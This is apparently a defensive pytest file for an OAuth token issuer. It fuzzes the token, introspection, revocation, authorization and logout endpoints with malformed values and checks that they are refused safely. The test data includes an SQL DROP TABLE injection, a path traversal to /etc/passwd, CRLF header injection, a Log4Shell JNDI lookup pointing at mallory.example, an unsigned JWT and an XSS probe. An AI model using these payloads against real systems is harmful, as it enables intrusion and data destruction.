"""Values that are made to be misunderstood, at the endpoints of the issuer."""

import pytest

from services.token_issuer.authorization.answers import Redirect
from services.token_issuer.authorization.logout import begin_logout
from tests.support.issuing import Stage

TOKEN, INTROSPECT, REVOKE = "/id/connect/token", "/id/connect/introspect", "/id/connect/revocation"
STRANGE = [
    "\0",
    "a\0b",
    "'; DROP TABLE token_issuer.grants; --",
    "{}",
    "../../etc/passwd",
    "%00",
    "\r\nX-Injected: 1",
    "\ud7ff\U0010ffff",
    "\U0001d4ef\U0001d4fb",
    "\u202e",
    " ",
    "x" * 5000,
    "${jndi:ldap://mallory.example}",
    "sdr_" + "a" * 22 + "." + "b" * 43,
    "sdc_" + "a" * 22 + "." + "b" * 43,
    "a.b.c",
    "eyJhbGciOiJub25lIn0.e30.",
]


@pytest.mark.parametrize("path", [TOKEN, INTROSPECT, REVOKE])
async def test_strange_values_are_refused_and_break_nothing(stage: Stage, path: str) -> None:
    hub = await stage.register(resources=True)
    names = ("code", "code_verifier", "redirect_uri", "refresh_token", "scope", "resource", "token", "client_id")
    for value in STRANGE:
        for grant in ("authorization_code", "refresh_token", "client_credentials", value):
            form = {"grant_type": grant, **dict.fromkeys(names, value)}
            answer = await stage.http.post(path, data=form)
            assert 400 <= answer.status_code < 500, (value, grant)
            del form["client_id"]
            answer = await stage.http.post(path, data=form, headers=hub.headers())
            assert answer.status_code < 500, (value, grant)
            assert "X-Injected" not in answer.headers


async def test_strange_authorization_requests_break_nothing(stage: Stage) -> None:
    hub = await stage.register(resources=True)
    names = (
        *("client_id", "redirect_uri", "response_type", "response_mode", "scope", "state", "nonce", "prompt"),
        *("max_age", "code_challenge", "code_challenge_method", "id_token_hint", "login_hint", "ui_locales"),
        *("resource", "audience", "acr_values", "claims", "display"),
    )
    for value in STRANGE:
        for name in names:
            outcome = await stage.begin(hub, **{name: value})
            if isinstance(outcome, Redirect):
                assert outcome.uri.startswith(hub.redirect_uri + "?")
                assert outcome.uri.isascii()
                assert "\n" not in outcome.uri
        await begin_logout(stage.issuer, [("id_token_hint", value), ("post_logout_redirect_uri", value)])


async def test_errors_never_repeat_what_was_sent(stage: Stage) -> None:
    hub = await stage.register(resources=True)
    probe = "<script>alert(1)</script>"
    for form in (
        {"grant_type": probe},
        {"grant_type": "client_credentials", "scope": "read" + probe},
        {"grant_type": "client_credentials", "resource": probe},
        {"grant_type": "authorization_code", "code": probe},
        {"grant_type": "refresh_token", "refresh_token": probe},
    ):
        answer = await stage.token(hub, **form)
        assert answer.status_code == 400
        assert "alert" not in answer.text
        assert answer.headers["content-type"] == "application/json"
